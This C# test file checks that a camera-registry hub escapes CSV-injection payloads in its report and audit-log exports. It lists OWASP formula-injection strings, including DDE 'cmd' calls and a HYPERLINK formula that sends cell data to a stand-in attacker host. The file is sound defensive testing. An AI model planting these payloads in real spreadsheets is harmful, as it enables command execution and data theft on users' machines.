using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using CameraHub.CameraRegistry.Organisations;
using CameraHub.CameraRegistry.Persistence;
using CameraHub.CameraRegistry.Tests.Infrastructure;
using CameraHub.Tests.Infrastructure;
using CsvHelper;
using Microsoft.Extensions.DependencyInjection;

namespace CameraHub.Tests.Security;

/// <summary>
/// Every CSV the hub writes can be opened in a spreadsheet without running anything: OWASP's CSV-injection payloads
/// planted in camera names, purposes, organisation names and a failed login's user name come back as text.
/// </summary>
public class CsvInjectionTests : IAsyncLifetime
{
    /// <summary>OWASP's "CSV Injection" examples, plus the audit-log one of issue #21 and the tab/CR starts.</summary>
    public static readonly string[] Payloads =
    [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"Open\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
        "\t=1+2",
        "\r=1+2",
    ];

    private readonly HubFactory _hub = new(demo: true);

    public async Task InitializeAsync()
    {
        await _hub.WithScopeAsync(async sp =>
        {
            var db = sp.GetRequiredService<RegistryDbContext>();
            for (var i = 0; i < Payloads.Length; i++)
            {
                db.Organisations.Add(new Organisation { Id = $"evil-{i}", Name = Payloads[i], Kind = OrganisationKind.Board });
            }

            return await db.SaveChangesAsync();
        });

        for (var i = 0; i < Payloads.Length; i++)
        {
            var camera = SampleCameras.Traffic($"EVIL-{i}");
            await _hub.CreateCameraAsync(camera with
            {
                OwnerId = $"evil-{i}",
                Name = Payloads[i],
                SharingPartnerIds = [],
                LegalBasis = new() { Kind = camera.LegalBasis.Kind, Reference = Payloads[i], DecidedOn = camera.LegalBasis.DecidedOn, DecidedBy = Payloads[i], Weighing = Payloads[i], GdprArticle = "6(1)(e)", Purpose = Payloads[i] },
            });
        }

        var anonymous = _hub.CreateClient();
        foreach (var payload in Payloads)
        {
            await anonymous.PostAsJsonAsync("/api/auth/token", new { username = payload, password = "wrong" });
        }
    }

    public Task DisposeAsync()
    {
        _hub.Dispose();
        return Task.CompletedTask;
    }

    private static List<string[]> Parse(string text)
    {
        using var reader = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add(reader.Parser.Record!);
        }

        return rows;
    }

    [Theory]
    [InlineData("admin", "/api/reports/inventory?format=csv")]
    [InlineData("admin", "/api/reports/register?format=csv")]
    [InlineData("admin", "/api/reports/costs?format=csv")]
    [InlineData("dpo", "/api/audit?format=csv")]
    public async Task No_cell_of_a_csv_export_starts_a_formula_and_every_payload_comes_back_as_text(string user, string route)
    {
        var client = await _hub.SignInAsAsync(user);
        var response = await client.GetAsync(route);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.StartsWith("text/csv", response.Content.Headers.ContentType?.ToString(), StringComparison.Ordinal);
        var cells = Parse(await response.Content.ReadAsStringAsync()).SelectMany(r => r).ToList();

        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@\t\r".Contains(c[0], StringComparison.Ordinal));
        foreach (var payload in Payloads.Where(p => route.Contains("audit", StringComparison.Ordinal) || !char.IsWhiteSpace(p[0])))
        {
            Assert.Contains("'" + payload, cells);
        }
    }

    [Fact]
    public async Task The_importer_keeps_a_name_that_looks_like_a_formula_as_given()
    {
        var admin = await _hub.SignInAsAsync("admin");
        var csv = new StringBuilder("id,name,ownerId,category,mode,status\n")
            .Append("IMP-1,\"=cmd|' /C calc'!A0\",evil-0,Traffic,LiveOnly,Planned\n").ToString();
        var response = await admin.PostAsync("/api/cameras/import", new StringContent(csv, Encoding.UTF8, "text/csv"));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);

        var camera = await admin.GetFromJsonAsync<JsonElement>("/api/cameras/IMP-1");
        Assert.Equal("=cmd|' /C calc'!A0", camera.GetProperty("name").GetString());
    }

    [Fact]
    public void The_camera_export_neutralises_text_but_keeps_numbers()
    {
        var camera = new CameraHub.CameraRegistry.Cameras.Camera { Id = "X-1", Name = "@SUM(1+9)", OwnerId = "o", Latitude = -12.5 };
        var writer = new StringWriter(CultureInfo.InvariantCulture);
        CameraHub.CameraRegistry.Import.CameraCsv.Write(writer, [camera]);
        var row = Parse(writer.ToString())[1];
        Assert.Equal("'@SUM(1+9)", row[1]);
        Assert.Equal("-12.5", row[Array.IndexOf(CameraHub.CameraRegistry.Import.CameraCsv.Columns, "latitude")]);
    }
}
